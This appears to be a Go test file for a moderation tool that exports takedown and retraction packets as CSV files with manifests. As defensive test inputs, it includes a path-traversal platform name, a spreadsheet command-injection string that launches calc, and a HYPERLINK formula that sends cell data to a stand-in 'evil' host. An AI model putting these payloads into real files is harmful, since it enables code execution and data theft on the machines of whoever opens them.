package data

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"triage/model"
)

func rejectAll(t *testing.T, s *Store, ids ...int64) {
	t.Helper()
	for _, id := range ids {
		decide(t, s, id, "alice", model.ActionReject, "FRD-INV")
	}
}

func packetRows(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return rows
}

func readManifest(t *testing.T, p Packet) Manifest {
	t.Helper()
	b, err := os.ReadFile(p.Manifest)
	if err != nil {
		t.Fatal(err)
	}
	var m Manifest
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatalf("%s: %v", p.Manifest, err)
	}
	return m
}

func TestTakedownsSendEachPostOnce(t *testing.T) {
	s, clk := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	var lines []string
	for i, p := range []string{"vk", "vk", "telegram", "vk", "Evil/../Platform"} {
		lines = append(lines, `{"platform":"`+p+`","external_id":"`+string(rune('a'+i))+`","text":"t`+string(rune('a'+i))+`","category":"fraud","url":"https://x.y/`+string(rune('a'+i))+`"}`)
	}
	importLines(t, s, lines...)
	rejectAll(t, s, 1, 2, 3, 5)
	decide(t, s, 4, "alice", model.ActionApprove, "FRD-NONE")

	dry, err := s.Takedowns(ctx, TakedownOptions{Dir: dir, DryRun: true})
	if err != nil || len(dry) != 3 {
		t.Fatalf("dry run: %+v %v", dry, err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Fatal("dry run wrote files")
	}
	packets, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(packets) != 3 {
		t.Fatalf("packets %+v %v", packets, err)
	}
	byPlatform := map[string]Packet{}
	for _, p := range packets {
		byPlatform[p.Platform] = p
	}
	vk := byPlatform["vk"]
	if want := "vk-20261120T090000Z-p" + itoa(vk.ID) + ".csv"; vk.Posts != 2 || filepath.Base(vk.File) != want {
		t.Fatalf("vk packet %+v, want file %s", vk, want)
	}
	evil := filepath.Base(byPlatform["evil/../platform"].File)
	if !strings.HasPrefix(evil, "evil____platform-") || strings.ContainsAny(evil, "/\\") || filepath.Dir(byPlatform["evil/../platform"].File) != dir {
		t.Fatalf("hostile platform name became file %q", byPlatform["evil/../platform"].File)
	}
	// The CSV is a plain table: a header and one row per post, nothing else.
	rows := packetRows(t, vk.File)
	if len(rows) != 3 || strings.Join(rows[0], ",") != strings.Join(takedownColumns, ",") {
		t.Fatalf("vk rows %v", rows)
	}
	if rows[1][0] != "https://x.y/a" || rows[1][4] != "FRD-INV" || !strings.Contains(rows[1][5], "fraud") || rows[1][7] != "alice" || len(rows[1][8]) != 64 {
		t.Fatalf("vk row %v", rows[1])
	}
	// The chain head, the id, the row count and the file's sha256 are in the
	// manifest beside it.
	head, n, _ := s.ChainHead(ctx)
	m := readManifest(t, vk)
	if m.PacketID != vk.ID || m.Rows != 2 || m.ChainHead != head || m.ChainEvents != n || n != 5 || m.File != filepath.Base(vk.File) {
		t.Fatalf("manifest %+v; chain head %s (%d)", m, head, n)
	}
	if same, err := sameSHA256(vk.File, m.SHA256); err != nil || !same {
		t.Fatalf("manifest sha256 %s does not match the file: %v", m.SHA256, err)
	}
	// A re-run sends nothing new; a new rejection goes in a new packet alone.
	if again, _ := s.Takedowns(ctx, TakedownOptions{Dir: dir}); len(again) != 0 {
		t.Fatalf("re-run sent %+v", again)
	}
	decide(t, s, 4, "alice", model.ActionUndo, "")
	rejectAll(t, s, 4)
	clk.add(time.Minute)
	next, _ := s.Takedowns(ctx, TakedownOptions{Dir: dir, Platform: "VK"})
	if len(next) != 1 || next[0].Posts != 1 || len(packetRows(t, next[0].File)) != 2 {
		t.Fatalf("second vk packet %+v", next)
	}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

// Platform names are user data: names that reduce to the same letters, cut
// in the same second, still get one file each, and every post is in its own
// platform's file.
func TestPacketNamesNeverCollide(t *testing.T) {
	s, _ := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	platforms := []string{"вк", "ок", "x.com", "x_com", "x com", "x/com"}
	var lines []string
	for i, p := range platforms {
		lines = append(lines, `{"platform":"`+p+`","external_id":"e`+itoa(int64(i))+`","text":"t","category":"fraud"}`)
	}
	importLines(t, s, lines...)
	for id := int64(1); id <= int64(len(platforms)); id++ {
		rejectAll(t, s, id)
	}
	packets, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(packets) != len(platforms) {
		t.Fatalf("%d packets for %d platforms: %v", len(packets), len(platforms), err)
	}
	files := map[string]bool{}
	for _, p := range packets {
		if files[p.File] {
			t.Fatalf("two packets share %s", p.File)
		}
		files[p.File] = true
		rows := packetRows(t, p.File)
		if len(rows) != 2 {
			t.Fatalf("%s (%s): rows %v", p.File, p.Platform, rows)
		}
	}
	var names []string
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if len(entries) != 2*len(platforms) {
		t.Fatalf("want a packet and a manifest per platform, got %v", names)
	}
	if !strings.Contains(strings.Join(names, " "), "vk-") {
		t.Fatalf("вк is not spelled vk in %v", names)
	}
}

// A file already at a packet's name is never replaced: different bytes are
// an error, and the same bytes (a crash after the link) are accepted.
func TestPacketFilesAreNeverReplaced(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "vk.csv")
	os.WriteFile(path, []byte("someone else's file\n"), 0o644)
	if _, err := writeNewFile(path, func(w io.Writer) error { _, err := io.WriteString(w, "ours\n"); return err }); err == nil {
		t.Fatal("replaced an existing file")
	}
	if b, _ := os.ReadFile(path); string(b) != "someone else's file\n" {
		t.Fatalf("existing file changed: %q", b)
	}
	if _, err := writeNewFile(path, func(w io.Writer) error { _, err := io.WriteString(w, "someone else's file\n"); return err }); err != nil {
		t.Fatalf("identical bytes refused: %v", err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Fatalf("temporary files left behind: %v", entries)
	}
}

func TestTakedownsSurviveACrashBetweenWritingAndMarking(t *testing.T) {
	s, clk := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	importLines(t, s, fraudPosts(6)...)
	rejectAll(t, s, 1, 2, 3)
	// Crash 1: the packet was cut but its file never finished.
	id, err := s.cutPacket(ctx, KindTakedown, "vk", TakedownOptions{Dir: dir, Format: FormatCSV})
	if err != nil {
		t.Fatal(err)
	}
	var file string
	s.r.QueryRow(`SELECT file FROM takedown_packets WHERE id = ?`, id).Scan(&file)
	os.WriteFile(filepath.Join(dir, "."+filepath.Base(file)+".abc.partial"), []byte("url,exter"), 0o644)
	rejectAll(t, s, 4)
	clk.add(time.Minute)
	// The next run finishes the crashed packet (same three posts) and cuts
	// a new one for the post rejected since: nothing lost, nothing twice.
	packets, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(packets) != 2 || !packets[0].Resumed || packets[0].Posts != 3 || packets[1].Posts != 1 {
		t.Fatalf("after crash 1: %+v %v", packets, err)
	}
	if rows := packetRows(t, packets[0].File); len(rows) != 4 {
		t.Fatalf("resumed packet rows %v", rows)
	}
	seen := map[string]int{}
	for _, p := range packets {
		for _, r := range packetRows(t, p.File)[1:] {
			seen[r[1]]++
		}
	}
	if len(seen) != 4 {
		t.Fatalf("posts sent: %v", seen)
	}
	for ext, n := range seen {
		if n != 1 {
			t.Fatalf("post %s sent %d times", ext, n)
		}
	}
	// Crash 2: the file was complete and linked, but not marked sent. The
	// re-run produces the identical bytes, accepts the file and marks it.
	rejectAll(t, s, 5)
	clk.add(time.Minute)
	id, _ = s.cutPacket(ctx, KindTakedown, "vk", TakedownOptions{Dir: dir, Format: FormatCSV})
	s.r.QueryRow(`SELECT file FROM takedown_packets WHERE id = ?`, id).Scan(&file)
	sum1, err := writeNewFile(file, func(w io.Writer) error {
		_, err := s.writePacket(ctx, w, Packet{ID: id, Kind: KindTakedown}, FormatCSV)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	packets, err = s.Takedowns(ctx, TakedownOptions{Dir: dir})
	var sum2 string
	s.r.QueryRow(`SELECT sha256 FROM takedown_packets WHERE id = ? AND state = 'sent'`, id).Scan(&sum2)
	if err != nil || len(packets) != 1 || !packets[0].Resumed || sum1 != sum2 {
		t.Fatalf("after crash 2: %+v %v, sums %s %s", packets, err, sum1, sum2)
	}
}

// While one run holds the takedowns lock, another changes nothing and says
// who holds it; a lock left by a dead process does not block forever.
func TestOneTakedownsRunAtATime(t *testing.T) {
	s, clk := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	importLines(t, s, fraudPosts(3)...)
	rejectAll(t, s, 1, 2)
	lock, err := s.lockRun(ctx, "takedowns")
	if err != nil {
		t.Fatal(err)
	}
	_, err = s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if !errors.Is(err, ErrBusy) || !strings.Contains(err.Error(), "nothing was changed") {
		t.Fatalf("second run: %v", err)
	}
	var packets int
	s.r.QueryRow(`SELECT count(*) FROM takedown_packets`).Scan(&packets)
	if entries, _ := os.ReadDir(dir); packets != 0 || len(entries) != 0 {
		t.Fatalf("the loser changed something: %d packets, %v", packets, entries)
	}
	lock.release(ctx)
	if p, err := s.Takedowns(ctx, TakedownOptions{Dir: dir}); err != nil || len(p) != 1 {
		t.Fatalf("after release: %+v %v", p, err)
	}
	// A holder on this host whose process is gone, and one past its expiry.
	s.w.Exec(`INSERT INTO run_locks VALUES ('takedowns', 'x', 999999999, ?, 0, ?)`, hostname(), clk.now().Add(time.Hour).UnixMilli())
	rejectAll(t, s, 3)
	if p, err := s.Takedowns(ctx, TakedownOptions{Dir: dir}); err != nil || len(p) != 1 {
		t.Fatalf("a dead holder's lock blocked: %+v %v", p, err)
	}
	s.w.Exec(`INSERT INTO run_locks VALUES ('takedowns', 'x', 1, 'elsewhere', 0, ?)`, clk.now().UnixMilli())
	clk.add(time.Second)
	if _, err := s.Takedowns(ctx, TakedownOptions{Dir: dir}); err != nil {
		t.Fatalf("an expired lock blocked: %v", err)
	}
}

func hostname() string { h, _ := os.Hostname(); return h }

// Once a packet is cut, its posts cannot be undone; a lead retracts, and the
// next run writes the retraction for the platform.
func TestUndoAfterSendRefusedRetractionSent(t *testing.T) {
	s, clk := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	importLines(t, s, fraudPosts(3)...)
	s.AddReviewer(ctx, "alice", model.RoleReviewer, nil)
	s.AddReviewer(ctx, "lena", model.RoleLead, nil)
	rejectAll(t, s, 1, 2)
	sent, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(sent) != 1 {
		t.Fatalf("%+v %v", sent, err)
	}
	_, err = s.Decide(ctx, model.Decision{PostID: 1, Actor: model.Actor{Reviewer: "alice"}, Action: model.ActionUndo})
	if !errors.Is(err, ErrConflict) || !strings.Contains(err.Error(), filepath.Base(sent[0].File)) {
		t.Fatalf("undo after send: %v", err)
	}
	retract := func(who, reason string) error {
		_, err := s.Decide(ctx, model.Decision{PostID: 1, Actor: model.Actor{Reviewer: who}, Action: model.ActionRetract, Note: reason})
		return err
	}
	if err := retract("alice", "appeal"); !errors.Is(err, ErrForbidden) {
		t.Fatalf("a reviewer retracted: %v", err)
	}
	if err := retract("lena", " "); err == nil {
		t.Fatal("a retraction without a reason was accepted")
	}
	if err := retract("lena", "author appealed; =cmd|' /C calc'!A0"); err != nil {
		t.Fatal(err)
	}
	if err := retract("lena", "again"); err == nil {
		t.Fatal("retracted twice")
	}
	if p, _ := s.Post(ctx, model.Actor{Reviewer: "lena"}, 1); p.Status != model.StatusPending {
		t.Fatalf("retracted post is %s, want pending", p.Status)
	}
	clk.add(time.Minute)
	out, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(out) != 1 || out[0].Kind != KindRetractions || out[0].Posts != 1 {
		t.Fatalf("retractions run: %+v %v", out, err)
	}
	if !strings.HasSuffix(out[0].File, "-retractions.csv") {
		t.Fatalf("retractions file %s", out[0].File)
	}
	rows := packetRows(t, out[0].File)
	if len(rows) != 2 || rows[1][4] != filepath.Base(sent[0].File) || rows[1][6] != "lena" || rows[1][7] != "author appealed; =cmd|' /C calc'!A0" {
		t.Fatalf("retraction rows %v", rows)
	}
	if m := readManifest(t, out[0]); m.Kind != KindRetractions || m.Rows != 1 {
		t.Fatalf("retractions manifest %+v", m)
	}
	// The post can be decided again, and a new rejection is sent again.
	rejectAll(t, s, 1)
	clk.add(time.Minute)
	if again, err := s.Takedowns(ctx, TakedownOptions{Dir: dir}); err != nil || len(again) != 1 || again[0].Kind != KindTakedown {
		t.Fatalf("re-rejection: %+v %v", again, err)
	}
	if rep, _ := s.Check(ctx); len(rep.Problems) != 0 {
		t.Fatalf("check after a retraction: %v", rep.Problems)
	}
}

// Every CSV the tool writes neutralises cells a spreadsheet would evaluate.
func TestPacketCellsAreNotFormulas(t *testing.T) {
	s, _ := openClocked(t)
	ctx := context.Background()
	dir := t.TempDir()
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "@SUM(1+1)", "+1-2", "-2+3", "\tcmd", "\rcmd"}
	var lines []string
	for i, h := range hostile {
		b, _ := json.Marshal(h)
		id := string(b)
		if strings.ContainsAny(h, "\t\r") {
			id = `"ctl` + itoa(int64(i)) + `"` // an identifier with a control in it is refused at import
		}
		lines = append(lines, `{"platform":"vk","external_id":`+id+`,"author":`+string(b)+`,"text":"t`+itoa(int64(i))+`","category":"fraud"}`)
	}
	importLines(t, s, lines...)
	for id := int64(1); id <= int64(len(hostile)); id++ {
		rejectAll(t, s, id)
	}
	packets, err := s.Takedowns(ctx, TakedownOptions{Dir: dir})
	if err != nil || len(packets) != 1 {
		t.Fatal(packets, err)
	}
	rows := packetRows(t, packets[0].File)
	if len(rows) != len(hostile)+1 {
		t.Fatalf("rows %v", rows)
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Fatalf("cell %q would be evaluated", c)
			}
		}
		if strings.HasPrefix(r[1], "ctl") {
			continue // an external id with a control: refused at import, so not hostile here
		}
		if !strings.HasPrefix(r[1], "'") || r[1][1:] != r[2][1:] {
			t.Fatalf("row %q: the cell is not kept after its apostrophe", r)
		}
	}
}
